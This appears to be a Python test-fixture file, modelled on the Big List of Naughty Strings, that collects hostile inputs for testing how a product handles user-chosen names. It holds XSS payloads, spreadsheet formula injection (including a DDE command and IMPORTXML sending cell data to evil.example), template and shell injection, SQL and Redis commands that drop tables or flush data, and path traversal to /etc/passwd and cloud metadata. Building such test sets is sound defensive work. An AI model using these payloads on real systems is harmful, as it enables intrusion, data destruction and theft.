"""Strings that break programs, or run in them: for every name people may choose. In the manner of the Big List of
Naughty Strings (github.com/minimaxir/big-list-of-naughty-strings), written for what this product shows and stores."""

from __future__ import annotations

from typing import Final

RAN: Final = "window.__ran=1"
SCRIPTS: Final = [
    f"<script>{RAN}</script>",
    f"</title><script>{RAN}</script>",
    f"</textarea><script>{RAN}</script>",
    f"</script><script>{RAN}</script>",
    f"--><script>{RAN}</script><!--",
    f"]]><script>{RAN}</script>",
    f"<img src=x onerror={RAN}>",
    f"<img src=x onerror='{RAN}'>",
    f"\"><img src=x onerror={RAN}>",
    f"'><svg onload={RAN}>",
    f"<svg/onload={RAN}>",
    f"<svg><script>{RAN}</script></svg>",
    f"<iframe srcdoc='<script>parent.{RAN}</script>'>",
    f"<iframe src=javascript:{RAN}>",
    f"<body onload={RAN}>",
    f"<details open ontoggle={RAN}>",
    f"<input autofocus onfocus={RAN}>",
    f"<video><source onerror={RAN}>",
    f"<marquee onstart={RAN}>",
    f"<math><mi//xlink:href='data:x,<script>{RAN}</script>'>",
    f"<a href='javascript:{RAN}'>x</a>",
    f"javascript:{RAN}",
    f"JaVaScRiPt:{RAN}",
    f"data:text/html,<script>{RAN}</script>",
    f"vbscript:{RAN}",
    f"' onmouseover='{RAN}",
    f"\" onfocus=\"{RAN}\" autofocus=\"",
    f"` onload={RAN} `",
    f"';{RAN};//",
    f"\";{RAN};//",
    f"\\\";{RAN};//",
    f"${{{RAN}}}",
    f"<base href='javascript:{RAN}//'>",
    f"<link rel=stylesheet href=data:,*{{x:expression({RAN})}}>",
    f"<style>@import 'javascript:{RAN}';</style>",
    f"<form><button formaction=javascript:{RAN}>x",
    f"<object data=javascript:{RAN}>",
    f"<embed src=javascript:{RAN}>",
    f"<x-component x-data x-init=\"{RAN}\">",
    f"<div x-init='{RAN}' x-data></div>",
    f"<div hx-on:load='{RAN}'></div>",
    f"&lt;script&gt;{RAN}&lt;/script&gt;",
    f"%3Cscript%3E{RAN}%3C/script%3E",
    f"\\u003cscript\\u003e{RAN}\\u003c/script\\u003e",
    f"<<script>{RAN}//<</script>",
    f"<scr<script>ipt>{RAN}</scr</script>ipt>",
    f"<ＳＣＲＩＰＴ>{RAN}</ＳＣＲＩＰＴ>",
]  # fmt: skip
FORMULAS: Final = [
    "=1+1", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1+1)", "=HYPERLINK(\"http://evil.example\",\"x\")",
    "=IMPORTXML(CONCAT(\"http://evil.example/\",A1),\"//a\")", "＝1+1", "＋1", "－1", "＠SUM(1)", "'=1+1", "''=1",
    "=\t1",
]  # fmt: skip
TEMPLATES: Final = [
    "{{7*7}}", "{{ settings.SECRET_KEY }}", "{% debug %}", "{% load log %}", "{{ request.user.password }}", "${7*7}",
    "#{7*7}", "<%= 7*7 %>", "{0}", "{0.__class__.__mro__}", "%s%s%s%n", "%d", "%(password)s", "{self.__dict__}",
    "$(id)",
    "`id`", "|id", ";id", "&& id", "{{constructor.constructor('window.__ran=1')()}}",
]  # fmt: skip
QUERIES: Final = [
    "' OR '1'='1", "1; DROP TABLE tenants_tenant", "1' UNION SELECT digest FROM tenants_apikey--", "\\'; --", "x%00",
    "%' OR 1=1 --", "_%_%", "*)(uid=*))(|(uid=*", "{\"$gt\": \"\"}", "FLUSHALL\r\nPING", "*1\r\n$8\r\nFLUSHALL\r\n",
]  # fmt: skip
PATHS: Final = [
    "../../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/passwd", "file:///etc/passwd", "C:\\con\\con", "CON",
    "aux",
    ".", "..", "~", "%2e%2e%2f", "....//", "http://169.254.169.254/", "\\\\evil.example\\share",
]  # fmt: skip
CHARACTERS: Final = [
    "\u202ereversed", "\u2066isolated\u2069", "zero\u200bwidth", "\ufeffmark", "join\u200ded", "\u00adsoft",
    "\U0001f3f3\ufe0f\u200d\U0001f308", "\U0001f469\u200d\U0001f469\u200d\U0001f467", "Z\u0337\u0322a\u0338\u0321l",
    "表ポあA鷗ŒéＢ逍Üßªąñ丂㐀𠀀", "ﷺ", "İıſK", "ﬀ", "½⅓", "١٢٣", "العربية", "עברית", "a\u0301", "\u1160", "𝒳",
    "\U000e0041\U000e0042", "Ω≈ç√∫˜µ≤≥÷", "田中さんにあげて下さい", "undefined", "null", "NaN", "None", "true", "0",
    "-1", "1e999", "\\", "\"", "'", "<", "&", "&amp;", "&#0;",
]  # fmt: skip
REFUSED: Final = ["a\x00b", "a\nb", "a\rb", "a\x1bb", "a\x7fb", "\ud800", "x" * 10_000, "", "   "]
STRINGS: Final = [*SCRIPTS, *FORMULAS, *TEMPLATES, *QUERIES, *PATHS, *CHARACTERS]
